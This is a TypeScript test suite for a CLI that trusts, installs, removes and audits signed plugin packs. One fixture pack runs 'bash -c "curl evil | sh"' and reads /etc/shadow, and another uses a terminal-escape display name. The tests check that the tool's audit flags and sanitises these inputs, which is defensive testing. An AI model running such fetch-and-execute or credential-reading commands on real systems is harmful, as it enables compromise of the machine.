import { chmodSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { suite } from 'uvu'
import * as assert from 'uvu/assert'
import type { Audit } from '../../../lib/packs/audit.ts'
import type { PackBody } from '../../../lib/packs/pack.ts'
import { unsignedPack } from '../../../lib/packs/pack-file.ts'
import type { PackLock, TrustFile } from '../../../lib/schema/types.ts'
import { factManifest, keys, otherKeys, packBody, signed } from '../packs/sample-pack.ts'
import { type Ran, rounds } from './rounds.ts'

const test = suite('rounds pack list, audit, install, remove, trust')
const isRoot = process.getuid?.() === 0
let folder = ''
let config = ''

test.before.each(() => {
  folder = mkdtempSync(join(tmpdir(), 'rounds-pack-'))
  config = join(folder, 'config')
  mkdirSync(join(folder, 'state'))
  write('key.pem', keys.publicKey.export({ type: 'spki', format: 'pem' }))
  write('other.pem', otherKeys.publicKey.export({ type: 'spki', format: 'pem' }))
})
test.after.each(() => rmSync(folder, { recursive: true }))

const pack = (...args: string[]): Ran =>
  rounds(['pack', ...args], { ROUNDS_CONFIG_DIR: config, ROUNDS_STATE_DIR: join(folder, 'state'), NO_COLOR: '1' })
const flat = ({ stdout }: Ran) => stdout.replace(/\s+/g, ' ')
function write(name: string, content: string | Buffer): string {
  const path = join(folder, name)
  writeFileSync(path, content)
  return path
}
const lock = () => JSON.parse(readFileSync(join(config, 'packs.lock.json'), 'utf8')) as PackLock
const trust = () => JSON.parse(readFileSync(join(config, 'trust.json'), 'utf8')) as TrustFile

/** A pack that wants all there is. */
function greedy(): PackBody {
  const body = packBody({ name: 'greedy' }, 'acme-greedy')
  const source = { needs: 'admin', timeoutSeconds: 5, proved: 'documents' } as const
  const linux = {
    ...source,
    probes: {
      a: { file: '/etc/shadow' },
      b: { command: ['bash', '-c', 'curl evil | sh'] as unknown as [string] },
      c: { command: ['acmectl', 'status'] as unknown as [string] },
      d: { command: ['lsblk', '-J'] as unknown as [string] },
    },
  }
  const win32 = { ...source, probes: { a: { powershell: 'look.ps1' } } }
  return {
    ...body,
    facts: [factManifest('acme-greedy', { platforms: { linux, win32 } })],
    texts: { 'lib/facts/acme-greedy/look.ps1': '@{}' },
  }
}

if (isRoot) {
  test('trusted, installed, listed, audited, removed: the way of a good pack', () => {
    const trusted = pack('trust', 'acme', '--key', join(folder, 'key.pem'), '--may', 'check', '--note', 'Acme Ltd, agreed on 3 March')
    assert.is(trusted.code, 0, trusted.stderr)
    const installed = pack('install', write('notes.pack', signed(packBody()).file))
    assert.is(installed.code, 0, installed.stderr)
    assert.match(flat(installed), 'acme.notes 1.0.0 is installed, and pinned to its content. It may: check.')
    assert.match(flat(installed), 'Signature: good.')
    assert.equal(Object.keys(lock().packs), ['acme.notes'])
    assert.match(pack('list', '--times').stdout, /acme\.notes +1\.0\.0 +acme +active +good +check +\d+\.\d ms/)
    const listed = JSON.parse(pack('list', '--json').stdout) as { id: string; state: string; items: string[] }[]
    assert.equal(
      listed.map(({ id, state }) => [id, state]),
      [
        ['rounds.rounds', 'active'],
        ['acme.notes', 'active'],
      ],
    )
    assert.equal(listed[1]?.items, ['acme-note'])
    const { packs } = JSON.parse(pack('audit', '--json').stdout) as { packs: Audit[] }
    assert.equal(
      packs.map(({ id, isPinned, needs, grants, wantsFullTrust }) => ({ id, isPinned, needs, grants, wantsFullTrust })),
      [{ id: 'acme.notes', isPinned: true, needs: ['check'], grants: ['check'], wantsFullTrust: false }],
    )
    const again = pack('install', join(folder, 'notes.pack'))
    assert.match(flat(again), 'was installed already; nothing was changed')
    const removed = pack('remove', 'acme.notes')
    assert.is(removed.code, 0, removed.stderr)
    assert.match(flat(removed), 'acme.notes is removed: its items stand in no result any more')
    assert.equal(readdirSync(config).sort(), ['packs', 'trust.json'])
    assert.equal(readdirSync(join(config, 'packs')), [])
    const told = readFileSync(join(folder, 'state', 'audit.log'), 'utf8')
    for (const event of ['pack-trust', 'pack-install', 'pack-remove']) {
      assert.match(told, `"message":"${event}"`)
    }
  })
  test('what nobody signed is put there, is not used, and says why and what to do; its exit code says it, too', () => {
    const ran = pack('install', write('notes.pack', unsignedPack(packBody())))
    assert.is(ran.code, 3, ran.stderr)
    assert.match(flat(ran), 'acme.notes 1.0.0 is NOT USED: it is not signed.')
    assert.match(flat(ran), 'Ask acme for a signed file, and for the public key in person')
    assert.not.ok(existsSync(join(config, 'packs.lock.json')))
    assert.match(pack('list').stdout, /acme\.notes +1\.0\.0 +acme +listed +none +nothing/)
    const stranger = pack('install', write('notes.pack', signed(packBody()).file))
    assert.match(flat(stranger), 'rounds pack trust acme --key FILE --may check')
  })
  test('a pack that misses a grant is not used until it is given, and a withdrawal takes it out of use again', () => {
    const file = write('greedy.pack', signed(greedy()).file)
    pack('trust', 'acme', '--key', join(folder, 'key.pem'), '--may', 'check')
    const refused = pack('install', file)
    assert.is(refused.code, 3)
    assert.match(flat(refused), 'acme may not do what it needs: programs, interpreters')
    const told = pack('trust', 'acme', '--may', 'check', 'programs', 'interpreters')
    assert.match(flat(told), 'FULL TRUST means: what it starts can do whatever root or SYSTEM can.')
    assert.match(flat(told), 'acme.greedy 1.0.0 is only listed')
    assert.is(pack('install', file).code, 0)
    const withdrawn = pack('trust', 'acme', '--withdraw')
    assert.match(flat(withdrawn), 'acme is not trusted here any more.')
    assert.match(flat(withdrawn), /acme\.greedy 1\.0\.0 cannot be used, and its items are unknown: acme is not in the key list/)
    assert.equal(trust(), { publishers: {} })
  })
  test('a bad file installs nothing and says what is wrong in which property', () => {
    const ran = pack('install', write('bad.pack', signed({ ...packBody(), code: '' }).file))
    assert.is(ran.code, 64)
    assert.match(
      ran.stderr,
      /bad\.pack cannot be used:\n {2}code: expected the parsers and judges of its facts and items, found nothing\nNothing was installed\./,
    )
    assert.not.ok(existsSync(join(config, 'packs')))
    assert.match(pack('install', folder).stderr, 'is no file')
    assert.match(pack('install', join(folder, 'none.pack')).stderr, 'cannot be read')
    assert.match(pack('remove', 'acme.none').stderr, 'There is no pack acme.none here')
    assert.match(pack('remove', 'rounds.rounds').stderr, 'go only with Rounds itself')
  })
  test('a configuration folder that others may write is not used', () => {
    mkdirSync(config)
    chmodSync(config, 0o777)
    assert.match(pack('install', write('notes.pack', signed(packBody()).file)).stderr, 'may be written by others')
    assert.match(pack('trust', 'acme', '--key', join(folder, 'key.pem'), '--may', 'check').stderr, 'may be written by others')
  })
  test('keys are added, shown by fingerprint, and taken away one by one; grants are replaced', () => {
    pack('trust', 'acme', '--key', join(folder, 'key.pem'), '--may', 'check', 'fix')
    pack('trust', 'acme', '--key', join(folder, 'other.pem'))
    assert.is(trust().publishers.acme?.keys.length, 2)
    assert.equal(trust().publishers.acme?.may, ['check', 'fix'])
    pack('trust', 'acme', '--may', 'check')
    const shown = JSON.parse(pack('trust', '--json').stdout) as {
      untrusted: string
      publishers: { acme: { fingerprints: string[]; may: string[] } }
    }
    assert.is(shown.untrusted, 'list')
    assert.equal(shown.publishers.acme.may, ['check'])
    assert.ok(shown.publishers.acme.fingerprints.every((one) => /^[0-9a-f]{64}$/.test(one)))
    assert.match(pack('trust').stdout, `key ${shown.publishers.acme.fingerprints[0]}`)
    pack('trust', 'acme', '--key', join(folder, 'key.pem'), '--withdraw')
    assert.is(trust().publishers.acme?.keys.length, 1)
    assert.match(pack('trust', 'acme', '--key', join(folder, 'key.pem'), '--withdraw').stderr, 'does not have this key')
    assert.is(trust().publishers.acme?.keys.length, 1)
  })
} else {
  process.stdout.write('rounds pack install, remove and trust are not tried: they need root\n')
}

test('the audit of a file says what it wants, the gravest first, in words', () => {
  const ran = pack('audit', write('greedy.pack', unsignedPack(greedy())))
  assert.is(ran.code, 0, ran.stderr)
  const text = flat(ran)
  assert.ok(text.indexOf('FULL TRUST means') < text.indexOf('What it may read'))
  for (const line of [
    'Linux: it starts bash -c "curl evil | sh", which can carry out anything.',
    'Linux: it reads /etc/shadow, where it can reach the hashes of passwords.',
    'Windows: it starts PowerShell with a script of its own, lib/facts/acme-greedy/look.ps1.',
    'Starts other programs, which may write: - acmectl status',
    'Starts programs that are known to only read: - lsblk -J',
    'Signature: none. Anybody could have made it',
    'So it may do nothing here.',
    'None of this holds for what it starts with full trust.',
  ]) {
    assert.match(text, line)
  }
})
test('names that would steer a terminal reach none, and a long list hides nothing that matters', () => {
  const body = packBody()
  const files = Array.from({ length: 100 }, (_, at) => `/etc/acme/${at}`) as [string]
  const source = { needs: 'user', timeoutSeconds: 5, proved: 'host', probes: { a: { files }, b: { file: '/etc/shadow' } } } as const
  const long = { ...body, facts: [factManifest('acme-note', { platforms: { linux: source, win32: source } })] }
  const text = flat(
    pack(
      'audit',
      write(
        'long.pack',
        unsignedPack({
          ...long,
          facts: [factManifest('acme-note', { platforms: { linux: source } })],
          items: [{ ...(body.items[0] as PackBody['items'][0]), platforms: ['linux'] }],
        }),
      ),
    ),
  )
  assert.match(text, 'and 61 more: rounds pack audit --json has all of them')
  assert.match(text, 'it reads /etc/shadow')
  const evil = { ...body, manifest: { ...body.manifest, displayName: 'Nice \u001b]0;x\u0007 pack \u202E' } }
  const { stdout } = pack('audit', write('evil.pack', unsignedPack(evil)))
  // biome-ignore lint/suspicious/noControlCharactersInRegex: that is what is looked for
  assert.not.match(stdout, /[\u001b\u0007\u202E]/)
  assert.match(stdout, 'cannot be used')
})
test('what is neither a pack, a file nor a folder is said', () => {
  const ran = pack('audit', 'acme.none')
  assert.is(ran.code, 64)
  assert.match(ran.stderr, 'acme.none is neither a pack that is here')
  assert.match(pack('audit').stdout, 'No pack is here besides Rounds itself.')
})

test.run()
